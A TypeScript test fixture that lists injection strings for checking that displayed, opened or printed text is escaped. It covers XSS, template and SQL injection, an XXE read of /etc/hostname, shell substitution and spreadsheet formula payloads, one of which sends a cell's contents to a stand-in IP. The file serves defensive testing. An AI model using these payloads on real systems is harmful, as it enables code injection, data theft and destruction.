/** Texts that mean something to what shows, opens or prints them; where one runs, it leaves this name behind. */
export const LEFT_BEHIND = 'payloadRan';
export const payloads: Readonly<Record<string, string>> = {
  script: `"><script>window.${LEFT_BEHIND}=1</script>`,
  handler: `<img src=x onerror="window.${LEFT_BEHIND}=1"><svg onload='${LEFT_BEHIND}=1'>`,
  template: `{{constructor.constructor('${LEFT_BEHIND}=1')()}} \${${LEFT_BEHIND}=1}`,
  address: `[words](javascript:window.${LEFT_BEHIND}=1)`,
  style: '</style><style>*{display:none}</style>" style="background:url(https://192.0.2.7/x)',
  formula: '=HYPERLINK("http://192.0.2.7/"&A1,"words")',
  command: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd',
  minus: '-2+3+cmd',
  wide: '＝1+1',
  xml: ']]><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>',
  format: '%s%n%x%99999999d {0} $(id) `id`',
  database: `'; DROP TABLE people; -- `,
  order: 'safe\u202egnp.exe\u2066 and \u200bnothing',
  control: 'before\u0000after\u0001\u001b[31m\u0085',
  marks: 'e\u0301\u0300\u0302\u0303 \ufffe \ud83d\ude00',
};
